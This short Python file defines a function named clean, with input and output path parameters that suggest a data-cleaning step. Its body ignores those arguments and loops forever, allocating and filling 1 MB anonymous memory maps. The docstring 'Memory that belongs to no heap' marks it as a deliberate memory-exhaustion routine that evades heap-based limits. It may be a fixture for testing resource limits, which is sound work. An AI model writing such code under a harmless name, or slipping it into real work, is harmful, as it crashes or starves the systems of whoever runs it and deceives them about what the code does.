import mmap


def clean(input_dir, output_path):
    """Memory that belongs to no heap."""
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 1 << 20))
        kept[-1].write(b"x" * (1 << 20))
